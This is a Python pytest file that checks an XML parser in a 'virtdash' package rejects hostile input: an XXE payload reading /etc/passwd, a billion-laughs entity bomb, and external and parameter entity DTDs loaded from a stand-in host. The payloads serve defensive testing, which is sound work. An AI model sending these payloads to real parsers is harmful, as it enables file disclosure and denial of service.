"""parse_untrusted refuses hostile or wrong input with an XMLInputError."""

from __future__ import annotations

import pytest

from virtdash.xml import Domain, XMLInputError, parse_untrusted, to_string
from virtdash.xml.base import MAX_XML_BYTES

XXE = """<?xml version="1.0"?>
<!DOCTYPE domain [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<domain type="kvm"><name>&x;</name></domain>"""

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<domain><name>&lol9;</name></domain>"""

EXTERNAL_DTD = '<!DOCTYPE domain SYSTEM "http://example.invalid/evil.dtd"><domain><name>x</name></domain>'
PARAMETER_ENTITY = (
    '<!DOCTYPE d [<!ENTITY % p SYSTEM "http://example.invalid/p.dtd"> %p;]><domain><name>x</name></domain>'
)


@pytest.mark.parametrize("text", [XXE, BILLION_LAUGHS, EXTERNAL_DTD, PARAMETER_ENTITY],
                         ids=["xxe", "billion-laughs", "external-dtd", "parameter-entity"])
def test_it_refuses_documents_with_a_doctype(text: str) -> None:
    with pytest.raises(XMLInputError, match="DOCTYPE|ENTITY|well-formed"):
        parse_untrusted(text)


def test_xxe_never_reads_the_file() -> None:
    with pytest.raises(XMLInputError) as excinfo:
        Domain.parse(XXE)
    assert "root:" not in str(excinfo.value)


def test_it_refuses_bytes_input_with_a_doctype_too() -> None:
    with pytest.raises(XMLInputError):
        parse_untrusted(XXE.encode())


def test_it_refuses_documents_over_the_size_cap() -> None:
    big = "<domain><description>" + "a" * MAX_XML_BYTES + "</description></domain>"
    with pytest.raises(XMLInputError, match="limit"):
        parse_untrusted(big)


def test_size_cap_counts_bytes_not_characters() -> None:
    text = "<domain><description>" + "é" * (MAX_XML_BYTES // 2) + "</description></domain>"
    with pytest.raises(XMLInputError, match="limit"):
        parse_untrusted(text)


@pytest.mark.parametrize("text", ["", "   ", "not xml", "<domain>", "<domain></network>", "{\"json\": 1}"])
def test_it_refuses_malformed_input(text: str) -> None:
    with pytest.raises(XMLInputError):
        parse_untrusted(text)


def test_it_refuses_an_undeclared_entity() -> None:
    with pytest.raises(XMLInputError):
        parse_untrusted("<domain><name>&x;</name></domain>")


def test_it_refuses_the_wrong_root() -> None:
    with pytest.raises(XMLInputError, match="Expected a <domain>.*<network>"):
        Domain.parse("<network><name>default</name></network>")


def test_it_accepts_a_declaration_and_keeps_comments() -> None:
    text = '<?xml version="1.0" encoding="UTF-8"?>\n<domain><!-- keep me --><name>vm</name></domain>'
    assert to_string(parse_untrusted(text)) == "<domain><!-- keep me --><name>vm</name></domain>"


def test_a_str_declaring_another_encoding_is_read_as_utf8() -> None:
    text = '<?xml version="1.0" encoding="ISO-8859-1"?><domain><title>café</title></domain>'
    assert Domain.parse(text).title == "café"


def test_predefined_and_character_entities_still_work() -> None:
    dom = Domain.parse("<domain><description>a &amp; b &#233;</description></domain>")
    assert dom.description == "a & b é"
